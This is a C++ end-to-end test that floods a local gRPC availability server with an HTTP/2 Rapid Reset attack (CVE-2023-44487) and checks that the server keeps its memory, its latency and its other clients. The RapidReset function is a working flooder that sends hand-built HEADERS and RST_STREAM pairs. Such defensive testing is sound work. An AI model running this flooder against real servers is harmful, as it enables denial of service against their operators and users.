// Rapid Reset (CVE-2023-44487) against the real availability-server binary:
// a raw HTTP/2 client written here opens a stream (HEADERS for
// GetAvailability) and resets it (RST_STREAM CANCEL) in a tight loop on one
// loopback connection, for a few seconds, while a normal gRPC client keeps
// calling. The server must stay up, keep its memory (VmRSS) under a stated
// bound, and keep the normal client's p99 latency within a stated factor of
// what it was before the flood; it may cut the flooding connection, and
// only that one.

#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <cerrno>
#include <cstdint>
#include <iostream>
#include <memory>
#include <string>
#include <thread>
#include <vector>

#include "absl/status/status.h"
#include "absl/strings/match.h"
#include "absl/strings/str_cat.h"
#include "absl/strings/str_split.h"
#include "absl/strings/string_view.h"
#include "absl/synchronization/mutex.h"
#include "absl/synchronization/notification.h"
#include "absl/time/clock.h"
#include "absl/time/time.h"
#include "availability/v1/availability.grpc.pb.h"
#include "core/record.h"
#include "gmock/gmock.h"
#include "grpcpp/grpcpp.h"
#include "gtest/gtest.h"
#include "testing/redis_server.h"
#include "testing/redis_sync.h"
#include "testing/sanitizer_slowdown.h"
#include "testing/server_process.h"
#include "tests/hostile_client.h"

namespace availability {
namespace {

namespace v1 = ::availability::v1;
using ::availability::testing::ConnectLoopback;
using ::availability::testing::Http2FrameHeader;
using ::availability::testing::RssBytes;
using ::testing::HasSubstr;

constexpr int32_t kStock = 1;
constexpr char kSku[] = "SKU-1";
// The server's resident memory must stay under this during the flood
// (under a sanitizer, which keeps freed memory in quarantine and shadows
// it, a multiple: measured up to 425 MB under ASan).
constexpr int64_t kRssBoundBytes =
    (int64_t{250} << 20) * testing::kSanitizerSlowdown;
// The normal client's p99 during the flood may be at most this many times
// its p99 before the flood, floored at kLatencyFloor (on a busy 2-core
// machine a 0.3 ms p99 reaches a few ms from scheduling noise alone).
// Measured with the guard: 0.3..2 ms before, 1.7..4.6 ms during. gRPC 1.51
// without it: every call of the normal client fails (DEADLINE_EXCEEDED,
// "server busy") or takes seconds.
constexpr double kLatencyFactor = 25;
constexpr absl::Duration kLatencyFloor = absl::Milliseconds(50);
constexpr absl::Duration kFloodTime = absl::Seconds(5);

// A string literal of HPACK (no Huffman coding; values under 127 bytes).
std::string HpackString(absl::string_view s) {
  return absl::StrCat(std::string(1, static_cast<char>(s.size())), s);
}

// The HPACK block of a gRPC request's headers for `path`, literals without
// indexing (static table names where there are).
std::string RequestHeaderBlock(absl::string_view path,
                               absl::string_view authority) {
  std::string block;
  block += '\x83';  // :method POST
  block += '\x86';  // :scheme http
  block += '\x04';  // :path, literal value
  block += HpackString(path);
  block += '\x01';  // :authority, literal value
  block += HpackString(authority);
  block += "\x0f\x10";  // content-type (static index 31), literal value
  block += HpackString("application/grpc");
  block += '\x00';  // a new name, literal value
  block += HpackString("te");
  block += HpackString("trailers");
  return block;
}

// What the raw HTTP/2 flooder did and saw.
struct FloodResult {
  bool connected = false;
  std::string peer;        // as the server names it: "ipv4:127.0.0.1:<port>"
  int64_t pairs_sent = 0;  // HEADERS + RST_STREAM pairs written
  bool goaway = false;     // the server sent GOAWAY
  bool closed = false;     // the server closed (or reset) the connection
  absl::Duration closed_after = absl::InfiniteDuration();  // from the start
};

// Connects to `port`, sends the client preface and SETTINGS, then writes
// HEADERS (GetAvailability) + RST_STREAM (CANCEL) pairs on new stream ids
// as fast as the server reads them, until `duration` passes or the server
// closes the connection. With `read_replies`, it also reads what the server
// sends and acknowledges its SETTINGS; without, it never reads (the
// server's replies pile up on its side).
FloodResult RapidReset(int port, absl::Duration duration, bool read_replies) {
  FloodResult result;
  const int fd = ConnectLoopback(port);
  if (fd < 0) return result;
  result.connected = true;
  sockaddr_in local{};
  socklen_t local_size = sizeof(local);
  getsockname(fd, reinterpret_cast<sockaddr*>(&local), &local_size);
  result.peer = absl::StrCat("ipv4:127.0.0.1:", ntohs(local.sin_port));
  const absl::Time start = absl::Now();
  absl::Mutex send_mu;  // whole frames: the reader's ACKs and the floods
  std::atomic<bool> closed{false};
  std::atomic<bool> goaway{false};
  std::atomic<bool> stop{false};
  const auto send_all = [&](const std::string& bytes) {
    absl::MutexLock lock(&send_mu);
    size_t at = 0;
    while (at < bytes.size() && !closed.load() && !stop.load()) {
      const ssize_t n =
          send(fd, bytes.data() + at, bytes.size() - at, MSG_NOSIGNAL);
      if (n > 0) {
        at += n;
      } else if (n < 0 &&
                 (errno == EAGAIN || errno == EWOULDBLOCK || errno == EINTR)) {
        if (absl::Now() > start + duration) return false;
      } else {
        if (!closed.exchange(true)) result.closed_after = absl::Now() - start;
        return false;
      }
    }
    return at == bytes.size();
  };
  std::thread reader([&] {
    std::string in;
    char buffer[16384];
    while (!stop.load()) {
      if (!read_replies) {
        // Only notice the server's end of the connection (its FIN behind
        // the unread replies, or a reset).
        pollfd watch{fd, POLLRDHUP, 0};
        if (poll(&watch, 1, 20) > 0 &&
            (watch.revents & (POLLRDHUP | POLLHUP | POLLERR)) != 0) {
          if (!closed.exchange(true)) result.closed_after = absl::Now() - start;
          return;
        }
        continue;
      }
      const ssize_t n = recv(fd, buffer, sizeof(buffer), 0);
      if (n == 0 || (n < 0 && errno != EAGAIN && errno != EWOULDBLOCK &&
                     errno != EINTR)) {
        if (!closed.exchange(true)) result.closed_after = absl::Now() - start;
        return;
      }
      if (n < 0) continue;
      in.append(buffer, n);
      testing::TakeHttp2Frames(
          in, [&](uint8_t type, uint8_t flags, absl::string_view) {
            if (type == testing::kHttp2Settings &&
                (flags & testing::kHttp2Ack) == 0) {
              send_all(Http2FrameHeader(0, testing::kHttp2Settings,
                                        testing::kHttp2Ack, 0));
            } else if (type == testing::kHttp2Goaway) {
              goaway.store(true);
            }
          });
    }
  });

  send_all(absl::StrCat(testing::kHttp2Preface,
                        Http2FrameHeader(0, testing::kHttp2Settings, 0, 0)));
  const std::string block =
      RequestHeaderBlock("/availability.v1.Availability/GetAvailability",
                         absl::StrCat("127.0.0.1:", port));
  const std::string rst_payload("\0\0\0\x08", 4);  // CANCEL
  uint32_t stream = 1;
  constexpr int kPairsPerWrite = 64;
  while (absl::Now() < start + duration && !closed.load() &&
         stream < (1u << 30)) {
    std::string batch;
    for (int i = 0; i < kPairsPerWrite; ++i, stream += 2) {
      // HEADERS with END_HEADERS, then RST_STREAM.
      batch += Http2FrameHeader(block.size(), testing::kHttp2Headers,
                                testing::kHttp2EndHeaders, stream);
      batch += block;
      batch += Http2FrameHeader(4, testing::kHttp2RstStream, 0, stream);
      batch += rst_payload;
    }
    if (!send_all(batch)) break;
    result.pairs_sent += kPairsPerWrite;
  }
  // A server that cuts the connection does so soon after the flood.
  const absl::Time linger = absl::Now() + absl::Seconds(1);
  while (!closed.load() && absl::Now() < linger) {
    absl::SleepFor(absl::Milliseconds(20));
  }
  stop.store(true);
  reader.join();
  close(fd);
  result.goaway = goaway.load();
  result.closed = closed.load();
  return result;
}

// Latencies of GetAvailability calls made one after the other on one
// channel.
class LatencyProbe {
 public:
  explicit LatencyProbe(std::shared_ptr<grpc::Channel> channel)
      : stub_(v1::Availability::NewStub(std::move(channel))) {}

  // Calls for `duration`; the latencies of the calls that succeeded.
  std::vector<absl::Duration> Run(absl::Duration duration) {
    std::vector<absl::Duration> latencies;
    const absl::Time end = absl::Now() + duration;
    while (absl::Now() < end) {
      v1::GetAvailabilityRequest request;
      request.mutable_scope()->set_stock_id(kStock);
      request.set_sku(kSku);
      request.set_quantity(1);
      v1::ProductAvailability answer;
      grpc::ClientContext context;
      context.set_deadline(absl::ToChronoTime(absl::Now() + absl::Seconds(5)));
      const absl::Time begin = absl::Now();
      const grpc::Status status =
          stub_->GetAvailability(&context, request, &answer);
      const absl::Duration took = absl::Now() - begin;
      if (status.ok()) {
        latencies.push_back(took);
      } else {
        ++failures_;
        last_error_ = absl::StrCat(
            absl::StatusCodeToString(
                static_cast<absl::StatusCode>(status.error_code())),
            ": ", status.error_message());
      }
      // ~500 calls a second: a storefront's steady trickle.
      absl::SleepFor(absl::Milliseconds(2));
    }
    return latencies;
  }

  int failures() const { return failures_; }
  const std::string& last_error() const { return last_error_; }

 private:
  std::unique_ptr<v1::Availability::Stub> stub_;
  int failures_ = 0;
  std::string last_error_;
};

absl::Duration Percentile(std::vector<absl::Duration> v, double p) {
  if (v.empty()) return absl::InfiniteDuration();
  std::sort(v.begin(), v.end());
  const size_t at = std::min(v.size() - 1, static_cast<size_t>(p * v.size()));
  return v[at];
}

class RapidResetE2ETest : public ::testing::Test {
 protected:
  void SetUp() override {
    auto redis = testing::RedisServer::Start();
    ASSERT_TRUE(redis.ok()) << redis.status();
    redis_ = *std::move(redis);
    auto writer = testing::SyncRedisClient::Connect(redis_->port());
    ASSERT_TRUE(writer.ok()) << writer.status();
    core::StoreConfig config;
    config.stock_id = kStock;
    (*writer)->PutStoreConfig(config);
    core::Record record;
    record.stock_id = kStock;
    record.version = 1;
    record.sku = kSku;
    record.source_qty = core::QtyFromUnits(10);
    (*writer)->PutRecord(record);
  }

  void StartServer(std::vector<std::string> flags) {
    testing::ServerProcess::Options options;
    options.redis_port = redis_->port();
    options.health_interval = absl::Milliseconds(200);
    options.metrics = true;
    options.flags = std::move(flags);
    auto server = testing::ServerProcess::Start(options);
    ASSERT_TRUE(server.ok()) << server.status();
    server_ = *std::move(server);
  }

  // Floods the server (RapidReset) while a normal client calls, prints
  // the figures, and checks the server held.
  void FloodAndCheck(bool read_replies);

  std::unique_ptr<testing::RedisServer> redis_;
  std::unique_ptr<testing::ServerProcess> server_;
};

void RapidResetE2ETest::FloodAndCheck(bool read_replies) {
  const pid_t pid = server_->pid();
  LatencyProbe probe(server_->Channel());
  probe.Run(absl::Milliseconds(300));  // connect, warm the near-cache
  const std::vector<absl::Duration> before = probe.Run(absl::Seconds(2));
  ASSERT_GT(before.size(), 100u);
  const int64_t rss_before = RssBytes(pid);
  ASSERT_GT(rss_before, 0);

  // Memory sampled every 20 ms during the flood (and its aftermath).
  std::atomic<bool> sampling{true};
  std::atomic<int64_t> rss_max{rss_before};
  std::thread sampler([&] {
    while (sampling.load()) {
      const int64_t rss = RssBytes(pid);
      if (rss > rss_max.load()) rss_max.store(rss);
      absl::SleepFor(absl::Milliseconds(20));
    }
  });
  FloodResult flood;
  std::thread flooder(
      [&] { flood = RapidReset(server_->port(), kFloodTime, read_replies); });
  absl::SleepFor(absl::Milliseconds(200));  // the flood under way
  const std::vector<absl::Duration> during =
      probe.Run(kFloodTime - absl::Milliseconds(400));
  flooder.join();
  absl::SleepFor(absl::Milliseconds(500));
  sampling.store(false);
  sampler.join();

  const absl::Duration p99_before = Percentile(before, 0.99);
  const absl::Duration p99_during = Percentile(during, 0.99);
  std::cerr << "flood: " << flood.pairs_sent << " HEADERS+RST_STREAM pairs; "
            << (flood.closed
                    ? absl::StrCat("connection closed after ",
                                   absl::FormatDuration(flood.closed_after))
                    : std::string("connection kept open"))
            << (flood.goaway ? " (GOAWAY)" : "") << "\nRSS " << rss_before
            << " -> max " << rss_max.load() << " bytes ("
            << (rss_max.load() - rss_before) / (1 << 20) << " MiB growth)"
            << "\nnormal client: p50 " << Percentile(before, 0.5) << " p99 "
            << p99_before << " max " << Percentile(before, 1.0) << " ("
            << before.size() << " calls) before; p50 "
            << Percentile(during, 0.5) << " p99 " << p99_during << " max "
            << Percentile(during, 1.0) << " (" << during.size() << " calls, "
            << probe.failures() << " failed) during\n";

  ASSERT_TRUE(flood.connected);
  EXPECT_TRUE(server_->Running());
  // A connection the server closed is the flooder's, and only it.
  const std::string log = server_->Stderr();
  int closings = 0;
  for (absl::string_view line : absl::StrSplit(log, '\n')) {
    if (!absl::StrContains(line, "resets streams faster")) continue;
    ++closings;
    std::cerr << line << "\n";
    EXPECT_THAT(std::string(line),
                HasSubstr(absl::StrCat("\"peer\":\"", flood.peer, "\"")));
  }
  EXPECT_EQ(
      server_->MetricSample("availability_flood_connections_closed_total"),
      closings);
  EXPECT_LT(rss_max.load(), kRssBoundBytes);
  EXPECT_EQ(probe.failures(), 0) << probe.last_error();
  ASSERT_FALSE(during.empty());
  EXPECT_LE(p99_during, std::max(kLatencyFactor * p99_before, kLatencyFloor) *
                            testing::kSanitizerSlowdown);
  // The normal client is still served after the flood, on its own
  // connection (if anything was cut, it was the flooder's).
  const std::vector<absl::Duration> after = probe.Run(absl::Seconds(1));
  std::cerr << "after the flood: RSS " << RssBytes(pid) << " bytes, "
            << after.size() << " calls served\n";
  EXPECT_FALSE(after.empty());
  EXPECT_EQ(probe.failures(), 0);
}

TEST_F(RapidResetE2ETest, FloodThatReadsRepliesIsContained) {
  ASSERT_NO_FATAL_FAILURE(StartServer({}));
  FloodAndCheck(/*read_replies=*/true);
}

TEST_F(RapidResetE2ETest, FloodThatNeverReadsIsContained) {
  ASSERT_NO_FATAL_FAILURE(StartServer({}));
  FloodAndCheck(/*read_replies=*/false);
}

}  // namespace
}  // namespace availability
